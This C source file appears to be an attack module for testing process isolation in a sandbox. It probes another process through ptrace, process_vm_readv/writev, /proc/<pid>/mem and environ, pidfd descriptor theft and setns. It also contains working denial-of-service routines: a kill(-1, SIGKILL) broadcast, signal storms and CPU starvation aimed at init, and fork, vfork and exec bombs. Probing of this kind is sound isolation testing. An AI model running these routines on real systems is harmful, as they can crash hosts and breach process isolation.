// Attacks on other processes: of the host, of other nests, on init; and on the end of one's own nest.

#include "attack.h"

#include <dirent.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>

static char secret[64] = "in the memory of the one that is attacked";

static long open_of(pid_t pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return can_open(path, flags);
}

static long list_fds(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *directory = opendir(path);
  if (directory == NULL) return -1;
  closedir(directory);
  return 0;
}

static long access_memory(pid_t pid, int write) {
  char copy[64];
  struct iovec here = {copy, sizeof copy}, there = {secret, sizeof secret};
  return write ? process_vm_writev(pid, &here, 1, &there, 1, 0) : process_vm_readv(pid, &here, 1, &there, 1, 0);
}

static long through_pidfd(pid_t pid, int steal) {
  int handle = syscall(SYS_pidfd_open, pid, 0);
  if (handle < 0) return -1;
  return steal ? syscall(SYS_pidfd_getfd, handle, 0, 0) : syscall(SYS_pidfd_send_signal, handle, 0, NULL, 0);
}

static long join(pid_t pid, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, name);
  int fd = open(path, O_RDONLY);
  return fd < 0 ? -1 : setns(fd, 0);
}

static long limit(pid_t pid) {
  struct rlimit64 none = {1 << 20, 1 << 20};
  return syscall(SYS_prlimit64, pid, RLIMIT_FSIZE, &none, NULL);
}

static long pin(pid_t pid) {
  cpu_set_t all;
  if (sched_getaffinity(0, sizeof all, &all) != 0) return -1;
  return sched_setaffinity(pid, sizeof all, &all);
}

static long demote(pid_t pid) {
  struct sched_param none = {0};
  return sched_setscheduler(pid, SCHED_IDLE, &none);
}

static long queue(pid_t pid) {
  siginfo_t info = {.si_code = SI_QUEUE, .si_signo = SIGURG};
  return syscall(SYS_rt_sigqueueinfo, pid, SIGURG, &info);
}

/** Everything that one process may do to another of the same user, the last of it deadly. */
static void reach(pid_t pid) {
  TRY("signal-0", kill(pid, 0));
  TRY("signal-URG", kill(pid, SIGURG));
  TRY("tgkill-URG", syscall(SYS_tgkill, pid, pid, SIGURG));
  TRY("queue-URG", queue(pid));
  TRY("pidfd-signal", through_pidfd(pid, 0));
  TRY("pidfd-getfd", through_pidfd(pid, 1));
  TRY("ptrace", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
  TRY("vm-read", access_memory(pid, 0));
  TRY("vm-write", access_memory(pid, 1));
  TRY("open-mem", open_of(pid, "mem", O_RDWR));
  TRY("open-environ", open_of(pid, "environ", O_RDONLY));
  TRY("open-maps", open_of(pid, "maps", O_RDONLY));
  TRY("open-exe", open_of(pid, "exe", O_RDONLY));
  TRY("open-root", open_of(pid, "root", O_PATH | O_DIRECTORY));
  TRY("open-cwd", open_of(pid, "cwd", O_PATH | O_DIRECTORY));
  TRY("list-fd", list_fds(pid));
  TRY("prlimit", limit(pid));
  TRY("affinity", pin(pid));
  TRY("renice", setpriority(PRIO_PROCESS, pid, 19));
  TRY("demote", demote(pid));
  TRY("ioprio", syscall(SYS_ioprio_set, 1, pid, 3 << 13));
  TRY("oom", open_of(pid, "oom_score_adj", O_WRONLY));
  TRY("setns-user", join(pid, "user"));
  TRY("setns-mnt", join(pid, "mnt"));
  TRY("setns-net", join(pid, "net"));
  TRY("signal-KILL", kill(pid, SIGKILL));
}

static long take(pid_t pid, int number) {
  int handle = syscall(SYS_pidfd_open, pid, 0);
  int fd = handle < 0 ? -1 : syscall(SYS_pidfd_getfd, handle, number, 0);
  return fd < 0 ? -1 : write(fd, "stolen", 6);
}

/** Speaks in another's name: on a descriptor of one's own with this number, and on those of others. */
static void steal(int number, int count, char **pids) {
  char name[64];
  TRY("own", write(number, "stolen", 6));
  for (int index = 0; index < count; index++) {
    snprintf(name, sizeof name, "of-%s", pids[index]);
    TRY(name, take(atoi(pids[index]), number));
  }
}

/** Prints every process id that can be seen by asking for it, whatever /proc shows. */
static void sweep(void) {
  for (pid_t pid = 1; pid < 70000; pid++) {
    if (pid == getpid()) continue;
    if (kill(pid, 0) == 0 || errno != ESRCH) dprintf(1, "seen-%d done\n", pid);
  }
}

/** Whatever of the user's processes can be had at once. */
static void broadcast(void) {
  TRY("all", kill(-1, SIGKILL));
  TRY("group", kill(0, SIGURG));
  TRY("renice-user", setpriority(PRIO_USER, 0, 19));
  TRY("ioprio-user", syscall(SYS_ioprio_set, 3, getuid(), 3 << 13));
}

/** Leaves processes behind that nobody has a hold on: orphaned, in sessions of their own, deaf, some of them stopped. */
static void daemonize(void) {
  prctl(PR_SET_CHILD_SUBREAPER, 1);
  for (int number = 0; number < 4; number++) {
    if (fork() != 0) continue;
    setsid();
    if (fork() != 0) _exit(0);
    setsid();
    prctl(PR_SET_NAME, "atk-daemon");
    prctl(PR_SET_DUMPABLE, 0);
    prctl(PR_SET_PDEATHSIG, 0);
    for (int ignored = 1; ignored < 65; ignored++) signal(ignored, SIG_IGN);
    dprintf(1, "daemon %d\n", getpid());
    if (number & 1) close_range(0, ~0U, 0);
    if (number & 2) kill(getpid(), SIGSTOP);
    // However this goes, not for ever: where nothing kills it, it ends by itself.
    for (int second = 0; second < 30; second++) usleep(1000000);
    _exit(0);
  }
  // Long enough for them to be there, and to be looked at: until stdin ends.
  usleep(100000);
  char nothing;
  while (read(0, &nothing, 1) > 0) continue;
}

/** Floods init with signals, forged deaths of children among them, and ends in the middle of it. */
static void storm(void) {
  for (int number = 0; number < 4; number++) {
    if (fork() != 0) continue;
    for (;;) {
      for (int which = 1; which < 65; which++) {
        kill(1, which);
        siginfo_t info = {.si_code = SI_QUEUE, .si_signo = which};
        syscall(SYS_rt_sigqueueinfo, 1, which, &info);
      }
    }
  }
  for (int round = 0; round < 200; round++) {
    if (fork() == 0) _exit(3);
    usleep(500);
  }
  _exit(7);
}

/** Keeps init from running as far as it can: last in line for one processor, with that one taken. */
static void starve(void) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  tell("pin", sched_setaffinity(1, sizeof one, &one));
  tell("renice", setpriority(PRIO_PROCESS, 1, 19));
  tell("demote", demote(1));
  struct rlimit64 none = {0, 0};
  tell("descriptors", syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, &none, NULL));
  for (int number = 0; number < 12; number++) {
    if (fork() == 0) {
      sched_setaffinity(0, sizeof one, &one);
      for (;;) continue;
    }
  }
  pause();
}

/** Forks, vforks, clones threads' worth of processes and executes itself over and over, without end. */
static void bomb(const char *how) {
  if (strcmp(how, "exec") == 0) {
    if (fork() != 0) fork();
    char *argv[] = {"attack", "processes", "bomb", "exec", NULL};
    execv("/proc/self/exe", argv);
    execv("/attack", argv);
    _exit(1);
  }
  for (;;) {
    pid_t child = strcmp(how, "vfork") == 0 ? vfork() : fork();
    if (child == 0 && strcmp(how, "vfork") == 0) _exit(0);
    if (child == 0 && strcmp(how, "vfork") != 0 && strcmp(how, "fork") != 0) setsid();
    // A patient one leaves others the time to look at it.
    if (child < 0 && strcmp(how, "patient") == 0) usleep(20000);
  }
}

int processes(int argc, char **argv) {
  const char *what = argv[0];
  if (strcmp(what, "victim") == 0) {
    dprintf(1, "victim %d\n", getpid());
    for (int second = 0; second < 60; second++) usleep(1000000);
  } else if (strcmp(what, "reach") == 0 && argc > 1) reach(atoi(argv[1]));
  else if (strcmp(what, "steal") == 0 && argc > 2) steal(atoi(argv[1]), argc - 2, argv + 2);
  else if (strcmp(what, "sweep") == 0) sweep();
  else if (strcmp(what, "broadcast") == 0) broadcast();
  else if (strcmp(what, "daemonize") == 0) daemonize();
  else if (strcmp(what, "storm") == 0) storm();
  else if (strcmp(what, "starve") == 0) starve();
  else if (strcmp(what, "bomb") == 0 && argc > 1) bomb(argv[1]);
  else return 64;
  return 0;
}
